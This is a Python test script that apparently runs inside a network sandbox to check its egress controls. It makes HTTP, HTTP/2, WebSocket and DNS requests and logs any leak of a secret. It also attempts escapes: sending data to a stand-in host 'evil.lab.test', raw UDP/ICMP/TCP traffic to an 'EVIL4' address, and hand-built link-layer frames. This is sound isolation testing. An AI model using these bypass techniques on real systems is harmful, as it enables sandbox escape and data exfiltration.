# SPDX-License-Identifier: Apache-2.0
"""Runs inside a sandbox of test_torture, until it is killed: `torture_inside.py PREFIX FILE SECRET SLOW`. Requests over
HTTP/1.1 and HTTP/2, a WebSocket, DNS, tries that are refused, and packets from raw sockets. To FILE goes one line for each
answer that was here as a whole, written at once: "KIND WHAT TIME", in the clock CLOCK_MONOTONIC. KIND leak: what never may be.
"""
import base64
import os
import socket
import subprocess
import sys
import threading
import time

import inside
from websocket_frames import TEXT, UPGRADE, frame

PREFIX, FILE, SECRET, SLOW = *sys.argv[1:4], float(sys.argv[4])
OUT = os.open(FILE, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
API, EVIL4 = "api.lab.test", "10.99.0.66"
FORMS = (SECRET.encode(), base64.b64encode(SECRET.encode())[:-4], SECRET.encode().hex().encode())
TRANSIENT = (OSError, EOFError, ValueError, IndexError)  # a worker that was killed shows as these


def tell(kind, what):
    os.write(OUT, f"{kind} {what} {time.monotonic():.6f}\n".encode())


def look(data):
    if any(form in data for form in FORMS):
        tell("leak", data[:200].hex())


def again(pause):
    """Makes of a function with a number something that is done for ever."""
    def wrap(function):
        def loop():
            n = 0
            while True:
                n += 1
                try:
                    function(n)
                except TRANSIENT:
                    pass
                time.sleep(pause)
        return loop
    return wrap


def patient():
    """A connection, soon: a query or a handshake that was with a worker when it was killed is not waited for."""
    answer = inside.dns_query(API, timeout=0.2 * SLOW)
    if not answer or not answer[1]:
        raise OSError("no address")
    s = socket.create_connection((socket.inet_ntoa(answer[1][0]), 443), 0.5 * SLOW)
    return inside.tls(API, sock=s)


@again(0.01)
def http1(n):
    """Several requests on one connection; /reflect sends the credential back."""
    s = patient()
    reader = inside.Reader(s)
    for i, path in enumerate((f"/{PREFIX}/1/{n}/", "/reflect?", f"/{PREFIX}/2/{n}/")):
        where = f"{path}{PREFIX}-{n}-{i}"
        s.sendall(inside.request("GET", where, API))
        status, _, body = reader.response()
        look(body)
        tell("http" if status == 200 else f"http{status}", where)
        time.sleep(0.02)
    s.close()


@again(0.01)
def refused(n):
    s = inside.tls(API, timeout=3 * SLOW)
    reader = inside.Reader(s)
    for method in ("DELETE", "PUT"):
        where = f"/{PREFIX}/{method}/{n}"
        s.sendall(inside.request(method, where, API, "Content-Length: 0"))
        status, _, body = reader.response(method)
        look(body)
        tell("allowed" if status == 200 else "denied", where)
    s.close()
    try:
        inside.connect("evil.lab.test", timeout=0.2).sendall(b"out")
    except TRANSIENT:
        pass


@again(0.05)
def http2(n):
    urls = [f"https://{API}/{PREFIX}/h2/{n}/{i}" for i in range(4)]
    r = subprocess.run(["curl", "-s", "--http2", "-m", str(3 * SLOW), "--cacert", os.environ["SSL_CERT_FILE"], "-w",
                        "\n%{exitcode} %{http_code} %{http_version} %{url_effective}\n", *urls], capture_output=True, check=False)
    look(r.stdout)
    for line in r.stdout.decode("latin-1").splitlines():
        if line.startswith("0 200 2 https://"):
            tell("http2", line.split(API, 1)[1])


@again(0.1)
def websocket(n):
    s = inside.tls(API, timeout=3 * SLOW)
    s.sendall(inside.request("GET", f"/ws?{PREFIX}-{n}", API, *UPGRADE))
    reader = inside.Reader(s)
    if reader.head()[0] != 101:
        return
    for i in range(100):
        text = f"{PREFIX}-{n}-{i}".encode()
        s.sendall(frame(TEXT, text))
        if reader.take(2 + len(text))[2:] == text:
            tell("websocket", f"{n}-{i}")
        time.sleep(0.05)


@again(0.05)
def dns(n):
    # A question that is answered with a name of its own, and one that nobody may ask.
    for kind, name in (("name", "www.lab.test"), ("noname", f"{PREFIX}-{n}.not.test")):
        answer = inside.dns_query(name, timeout=1)
        if answer:
            tell(kind, name)


@again(0.02)
def raw(n):
    """Past all of it: to the outside directly, over the gate's link."""
    text = b"past-the-gate"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for address, port in ((EVIL4, 53), ("10.99.0.53", 53), ("10.99.0.80", 443), ("10.99.0.80", 1234)):
            s.sendto(text, (address, port))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\x00\xf7\xff\0\0\0\0" + text, (EVIL4, 0))
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setblocking(False)
        try:
            s.connect((EVIL4, (80, 443, 53, 22, 8080)[n % 5]))
        except BlockingIOError:
            time.sleep(0.02)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        for device in os.listdir("/sys/class/net"):
            if device != "lo":
                s.bind((device, 0))
                s.send(b"\xff" * 6 + b"\x02\0\0\0\0\x01" + b"\x08\x00\x45\x00\x00\x1c" + bytes(5) + b"\x11\0\0" +
                       socket.inet_aton("10.99.0.80") + socket.inet_aton(EVIL4) + b"\0\x35\0\x35\0\x08\0\0" + text)


for job in (http1, refused, http2, websocket, dns, raw):
    threading.Thread(target=job, daemon=True).start()
threading.Event().wait()
